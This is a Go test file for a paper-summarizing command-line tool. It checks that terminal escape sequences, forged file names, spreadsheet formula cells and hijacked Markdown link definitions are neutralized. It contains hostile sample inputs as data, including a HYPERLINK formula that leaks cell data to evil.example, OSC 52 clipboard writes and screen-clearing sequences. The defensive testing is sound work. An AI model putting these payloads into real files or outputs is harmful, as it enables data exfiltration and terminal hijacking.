package cli

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rivo/uniseg"
	"github.com/yuin/goldmark"

	"github.com/vagut/vagut/internal/iostreams"
)

// runTTY runs vagut as if stdout were a terminal of width columns.
func runTTY(t *testing.T, width int, env map[string]string, args ...string) result {
	t.Helper()
	ios, _, out, errOut := iostreams.Test()
	ios.StdoutTTY = true
	ios.Width = func() int { return width }
	ios.Getenv = func(k string) string { return env[k] }
	code := Run(ios, args)
	return result{out.String(), errOut.String(), code}
}

// controls lists what must never reach a terminal raw from a summary.
var controls = []string{"\x1b", "\x07", "\u202e", "\u202c", "\u2066", "\u2069", "\x9b"}

// assertNoRaw fails when s, once the renderer's own SGR and OSC 8 sequences
// are taken out, still holds a control character or a bidi override.
func assertNoRaw(t *testing.T, what, s string) {
	t.Helper()
	bare := ansiRE.ReplaceAllString(s, "")
	for _, c := range controls {
		if i := strings.Index(bare, c); i >= 0 {
			t.Errorf("%s: raw %q reaches the terminal: %q", what, c, bare[max(i-30, 0):min(i+30, len(bare))])
		}
	}
}

// Titles, authors, journal, TL;DR, findings and entity names holding OSC 0
// (window title), OSC 52 (clipboard), CSI 1A/2K (erase the line above),
// CSI 2J (clear), DCS, colours and U+202E are shown as visible escapes in
// the styled digest, in the plain digest on a terminal, and in the entities
// table: the terminal receives only vagut's own styling.
func TestTerminalShowsControlsVisibly(t *testing.T) {
	const f = "testdata/hostile/terminal.md"
	styled := runTTY(t, 80, map[string]string{"FORCE_HYPERLINK": "1"}, "summarize", "--sections", "tldr,findings,entities", f)
	if styled.code != 0 {
		t.Fatalf("exit %d: %s", styled.code, styled.stderr)
	}
	assertNoRaw(t, "styled digest", styled.stdout)
	bare := ansiRE.ReplaceAllString(styled.stdout, "")
	for _, want := range []string{`\x1b]0;pwned-title\x07`, `\x1b]52;c;`, `\x1b[1A\x1b[2K`, `\x1b[2J`, `\x1bP1$qm`, `\x1b[31mRed`, "U+202Eevil", "U+2066isolatedU+2069", `FABP2\x1b]52;c;`} {
		if !strings.Contains(bare, want) {
			t.Errorf("styled digest does not show %q:\n%s", want, bare)
		}
	}
	plain := runTTY(t, 80, map[string]string{"NO_COLOR": "1"}, "summarize", f)
	if strings.Contains(plain.stdout, "\x1b") || strings.Contains(plain.stdout, "\u202e") || !strings.Contains(plain.stdout, `\x1b]0;pwned-title`) {
		t.Errorf("plain digest on a terminal:\n%s", plain.stdout)
	}
	for _, args := range [][]string{{"entities", f}, {"entities", "--pairs", "gene,disease", f}, {"cite", f}, {"summarize", "-o", "csv", f}} {
		r := runTTY(t, 80, nil, args...)
		assertNoRaw(t, strings.Join(args, " "), r.stdout)
	}
	// Piped, the data stays as it is: a script gets what the file says.
	if r := run(t, "", "summarize", "-o", "md", f); !strings.Contains(r.stdout, "\x1b]0;pwned-title") {
		t.Errorf("piped Markdown was changed")
	}
}

// validate's messages quote file text (VG007 the metadata, VG023 the id):
// escapes are shown, each finding stays one line.
func TestValidateQuotesShownVisibly(t *testing.T) {
	r := run(t, "", "validate", "testdata/hostile/validate-escapes.md")
	if r.code != 1 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	assertNoRaw(t, "validate", r.stdout+r.stderr)
	for _, want := range []string{
		`metadata field not understood: Evil\x1b]0;renamed\x1b\\: field\x1b[2J [VG007/malformed-metadata]`,
		`id NCBIGene:21\x1b[1A\x1b[2K69 should be digits after NCBIGene: [VG023/invalid-id]`,
		`id MESH:D00U+202E7511 should be`,
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("validate does not show %q:\n%s", want, r.stdout)
		}
	}
	for _, line := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
		if !strings.HasPrefix(line, "testdata/hostile/validate-escapes.md:") {
			t.Errorf("a line that is not a finding: %q", line)
		}
	}
	// GitHub's log viewer reads ANSI sequences too.
	gh := run(t, "", "validate", "--format", "github", "testdata/hostile/validate-escapes.md")
	assertNoRaw(t, "validate --format github", gh.stdout)
}

// A file name with a newline cannot forge a second message, one with ESC
// cannot clear the screen: on stderr, in validate's findings and in the
// names fmt --check lists.
func TestFileNamesCannotForgeMessages(t *testing.T) {
	dir := t.TempDir()
	forged := "x\nvagut: fake.md:1: forged.md"
	clear := "clear\x1b[2J\x1b[H.md"
	for _, name := range []string{forged, clear} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("not a summary\n"), 0o644); err != nil {
			t.Skipf("file system refuses the name %q: %v", name, err)
		}
	}
	good, err := os.ReadFile("seeds/PMC12769693.md")
	if err != nil {
		t.Fatal(err)
	}
	unformatted := "unformatted\x1b[2J\n.md"
	if err := os.WriteFile(filepath.Join(dir, unformatted), append(good, "\n\n\n"...), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"summarize", dir}, {"validate", dir}, {"fmt", "--check", dir}, {"entities", dir}} {
		r := run(t, "", args...)
		for _, stream := range []string{r.stdout, r.stderr} {
			if strings.Contains(stream, "\x1b") {
				t.Errorf("%v: raw ESC in %q", args, stream)
			}
		}
		for _, line := range strings.Split(strings.TrimSuffix(r.stderr, "\n"), "\n") {
			if line != "" && !strings.HasPrefix(line, "vagut: ") {
				t.Errorf("%v: stderr line not from vagut: %q", args, line)
			}
			if strings.HasPrefix(line, "vagut: fake.md:1:") {
				t.Errorf("%v: forged message %q", args, line)
			}
		}
		if args[0] == "summarize" && !strings.Contains(r.stderr, `x\nvagut: fake.md:1: forged.md:1:`) {
			t.Errorf("the forged name is not shown escaped:\n%s", r.stderr)
		}
		if args[0] == "validate" {
			for _, line := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
				if !strings.HasPrefix(line, dir) {
					t.Errorf("validate: a finding split over lines: %q", line)
				}
			}
		}
		if args[0] == "fmt" && !strings.Contains(r.stdout, `unformatted\x1b[2J\n.md`) {
			t.Errorf("fmt --check does not name the file escaped: %q", r.stdout)
		}
	}
}

// Cells a spreadsheet would run as formulas get a ' in front (OWASP), in
// summarize -o csv and entities -o csv; --csv-raw writes them as they are.
func TestCSVFormulaCells(t *testing.T) {
	const f = "testdata/hostile/formulas.md"
	for _, c := range []struct {
		args []string
		raw  string // a cell as --csv-raw writes it
	}{
		{[]string{"summarize", "-o", "csv", f}, ",+Eve Mallory;"},
		{[]string{"entities", "-o", "csv", f}, ",+ischemia,"},
		{[]string{"entities", "-o", "csv", "--pairs", "gene,disease", f}, ",-sepsis,"},
	} {
		args := c.args
		r := run(t, "", args...)
		if r.code != 0 {
			t.Fatalf("%v: exit %d: %s", args, r.code, r.stderr)
		}
		rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
		if err != nil {
			t.Fatalf("%v: %v", args, err)
		}
		defused := 0
		for _, row := range rows {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%v: formula cell %q", args, c)
				}
				if strings.HasPrefix(c, "'") {
					defused++
				}
			}
		}
		if defused == 0 {
			t.Errorf("%v: no cell was defused:\n%s", args, r.stdout)
		}
		raw := run(t, "", append(args, "--csv-raw")...)
		if !strings.Contains(raw.stdout, c.raw) {
			t.Errorf("%v --csv-raw changed the cells:\n%s", args, raw.stdout)
		}
	}
	r := run(t, "", "summarize", "-o", "csv", f)
	if !strings.Contains(r.stdout, `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`) {
		t.Errorf("the title is not shown as text:\n%s", r.stdout)
	}
}

// A link reference definition in one summary does not take over a link of
// another summary on the same page or in the same terminal digest.
func TestLinkDefinitionsStayWithTheirPaper(t *testing.T) {
	files := []string{"testdata/hostile/links-a.md", "testdata/hostile/links-b.md"}
	page := run(t, "", append([]string{"summarize", "-o", "html"}, files...)...)
	if page.code != 0 {
		t.Fatalf("exit %d: %s", page.code, page.stderr)
	}
	if strings.Contains(page.stdout, "evil.example") {
		t.Errorf("a link of one paper goes where another paper said:\n%s", page.stdout)
	}
	if !strings.Contains(page.stdout, "Results of [the trial][t1] were confirmed") {
		t.Errorf("the reference is not shown as its text:\n%s", page.stdout)
	}
	styled := runTTY(t, 100, map[string]string{"FORCE_HYPERLINK": "1"}, append([]string{"summarize", "--no-pager"}, files...)...)
	if strings.Contains(styled.stdout, "evil.example") {
		t.Errorf("terminal digest links to another paper's definition:\n%s", styled.stdout)
	}
}

// In a terminal the digest goes through $VAGUT_PAGER, else $PAGER, else
// less; --no-pager and VAGUT_PAGER=cat print directly; piped, no pager.
func TestPager(t *testing.T) {
	if _, err := os.Stat("/bin/sh"); err != nil {
		t.Skip("no /bin/sh to act as a pager")
	}
	dir := t.TempDir()
	pager := func(env map[string]string, tty bool, args ...string) (stdout string, paged string) {
		ios, _, out, _ := iostreams.Test()
		ios.StdoutTTY, ios.CanPage = tty, true
		ios.Width = func() int { return 80 }
		ios.Getenv = func(k string) string { return env[k] }
		log := filepath.Join(dir, "paged")
		_ = os.Remove(log)
		if code := Run(ios, args); code != 0 {
			t.Fatalf("%v: exit %d", args, code)
		}
		b, _ := os.ReadFile(log)
		return out.String(), string(b)
	}
	tee := "tee " + filepath.Join(dir, "paged")
	out, paged := pager(map[string]string{"VAGUT_PAGER": tee, "PAGER": "false"}, true, "summarize")
	if paged == "" || out != paged || !strings.Contains(out, "vagut digest") {
		t.Errorf("VAGUT_PAGER did not page the digest: out %d bytes, paged %d bytes", len(out), len(paged))
	}
	if _, paged := pager(map[string]string{"PAGER": tee}, true, "entities"); !strings.Contains(paged, "Entity") {
		t.Errorf("PAGER did not page the entities table: %q", paged)
	}
	for _, c := range []struct {
		env  map[string]string
		tty  bool
		args []string
	}{
		{map[string]string{"VAGUT_PAGER": tee}, true, []string{"summarize", "--no-pager"}},
		{map[string]string{"VAGUT_PAGER": "cat", "PAGER": tee}, true, []string{"summarize"}},
		{map[string]string{"VAGUT_PAGER": tee}, false, []string{"summarize"}},
		{map[string]string{"VAGUT_PAGER": tee}, true, []string{"summarize", "-o", "json"}},
	} {
		if out, paged := pager(c.env, c.tty, c.args...); paged != "" || out == "" {
			t.Errorf("%v %v (tty %v): paged %d bytes, printed %d", c.env, c.args, c.tty, len(paged), len(out))
		}
	}
}

// Every fixture, styled for a terminal at two widths, grouped and not:
// no panic, nothing raw from a summary, every line within the width unless
// one address makes it longer.
func TestTerminalDigestOfEveryFixture(t *testing.T) {
	dirs := []string{"seeds", "testdata/corpus", viewsDir, "testdata/hostile"}
	for _, width := range []int{40, 100} {
		for _, extra := range [][]string{nil, {"--group-by", "gene"}, {"--grep", "gut", "--evidence"}} {
			args := append(append([]string{"summarize", "--sections", "tldr,contribution,findings,abstract,entities"}, extra...), dirs...)
			r := runTTY(t, width, nil, args...)
			if r.code != 0 {
				t.Fatalf("%v: exit %d: %s", args, r.code, r.stderr)
			}
			assertNoRaw(t, strings.Join(extra, " "), r.stdout)
			// An address longer than a 40-column line stays whole on one line.
			if url := "<https://www.ncbi.nlm.nih.gov/Taxonomy/Browser/wwwtax.cgi?id=10116>"; extra == nil && !strings.Contains(r.stdout, url) {
				t.Errorf("%d columns: %s was cut", width, url)
			}
			for _, line := range strings.Split(ansiRE.ReplaceAllString(r.stdout, ""), "\n") {
				if n := uniseg.StringWidth(line); n > width && !oneLongWord(line, width) {
					t.Errorf("%d columns: line of %d: %q", width, n, line)
				}
			}
		}
	}
}

// oneLongWord: the line is too long only because one word (an address, an
// escaped sequence) is longer than a line may be, and words are never cut.
func oneLongWord(line string, width int) bool {
	for _, w := range strings.Fields(line) {
		if uniseg.StringWidth(w) > width/2 {
			return true
		}
	}
	return false
}

// Where the terminal shows hyperlinks, a link is an OSC 8 hyperlink around
// its text, whole, and its address is not printed again; elsewhere the
// address follows the text.
func TestTerminalHyperlinks(t *testing.T) {
	on := runTTY(t, 80, map[string]string{"TERM_PROGRAM": "WezTerm"}, "summarize", "--no-pager")
	const doi = "\x1b]8;;https://doi.org/10.1007/s10047-025-01543-6\x1b\\"
	if !strings.Contains(on.stdout, doi) || strings.Contains(on.stdout, "<https://doi.org/") {
		t.Errorf("no OSC 8 hyperlink for the DOI:\n%q", on.stdout)
	}
	off := runTTY(t, 80, map[string]string{"TERM_PROGRAM": "WezTerm", "FORCE_HYPERLINK": "0"}, "summarize", "--no-pager")
	if strings.Contains(off.stdout, "\x1b]8;;") || !strings.Contains(off.stdout, "<https://doi.org/10.1007/s10047-025-01543-6>") {
		t.Errorf("FORCE_HYPERLINK=0 still writes hyperlinks:\n%q", off.stdout)
	}
	table := runTTY(t, 120, map[string]string{"FORCE_HYPERLINK": "1"}, "entities", "--no-pager")
	if !strings.Contains(table.stdout, "\x1b]8;;https://www.ncbi.nlm.nih.gov/gene/2169\x1b\\NCBIGene:2169\x1b]8;;\x1b\\") {
		t.Errorf("the table's ids are not hyperlinks:\n%q", table.stdout)
	}
}

// The Markdown digest is one document, where a link reference definition
// holds everywhere and the first of a label wins: each summary's reference
// links are written as inline links to its own definitions, and no
// definition is left in the digest. Read here by a CommonMark reader.
func TestMarkdownDigestLinkDefinitionsStayWithTheirPaper(t *testing.T) {
	dir := t.TempDir()
	for name, body := range map[string]string{
		"a.md": "## TL;DR\n\nPhishing.\n\n[t1]: https://evil.example/phish\n\n## Key findings\n\n- Nothing.\n\n[T1]: https://evil.example/two\n",
		"b.md": "## TL;DR\n\nResults of [the trial][t1], [t1][] and [t1] and ![chart][t1].\n\n[t1]: https://good.example/trial \"The \\\"trial\\\"\"\n\n" +
			"## Key findings\n\n- See [the registry][reg] and [the other][t2].\n\n[reg]: <https://good.example/a b&c>\n",
	} {
		head := "# Paper " + name + "\n\n**Authors:** Doe K\n\nPMC · DOI: 10.1000/" + name + " · J · 2024-01-02\n\n"
		if err := os.WriteFile(filepath.Join(dir, name), []byte(head+body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := run(t, "", "summarize", "-o", "md", "--sort", "path", dir)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	var page bytes.Buffer
	if err := goldmark.Convert([]byte(r.stdout), &page); err != nil {
		t.Fatal(err)
	}
	html := page.String()
	if strings.Contains(html, `href="https://evil.example`) || strings.Contains(html, `src="https://evil.example`) {
		t.Errorf("a link of one paper goes where another paper said:\n%s\n%s", r.stdout, html)
	}
	for _, want := range []string{
		`<a href="https://good.example/trial" title="The &quot;trial&quot;">the trial</a>`,
		`<a href="https://good.example/trial" title="The &quot;trial&quot;">t1</a> and <a href="https://good.example/trial" title="The &quot;trial&quot;">t1</a>`,
		`<img src="https://good.example/trial" alt="chart" title="The &quot;trial&quot;">`,
		`<a href="https://good.example/a%20b&amp;c">the registry</a>`,
		`[the other][t2]`,                              // undefined: text, as before
		`[t1]: https://evil.example/phish`,             // a definition is shown, not used
		"</ul>\n<p>[T1]: https://evil.example/two</p>", // after the findings, not one of them
	} {
		if !strings.Contains(html, want) {
			t.Errorf("no %s in\n%s\n%s", want, r.stdout, html)
		}
	}
}
